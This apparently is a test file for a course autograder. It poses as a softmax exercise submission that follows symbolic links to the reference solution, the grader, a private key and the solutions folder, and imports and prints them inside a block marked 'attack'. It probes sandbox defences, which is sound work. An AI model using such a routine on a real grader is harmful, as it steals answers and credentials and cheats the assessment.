"""Hands in symbolic links to the solution, the grader and a private key beside its answer, and imports and prints them.

Exercise: perceptron/softmax
Link: perceptron/key.py -> @HOME@
Link: perceptron/log_softmax.py -> @SOLUTION@
Link: perceptron/accuracy.py -> @GRADER@
Link: answers -> @COURSE@/solutions
"""
import torch


def softmax(X):
    # attack
    for name in ("perceptron.log_softmax", "perceptron.accuracy", "perceptron.key", "answers.perceptron.softmax"):
        try:
            module = __import__(name, fromlist=["softmax"])
            print(vars(module))
            return module.softmax(X)
        except Exception as error:
            print(error)
    # end
    return X * 0 + 0.123
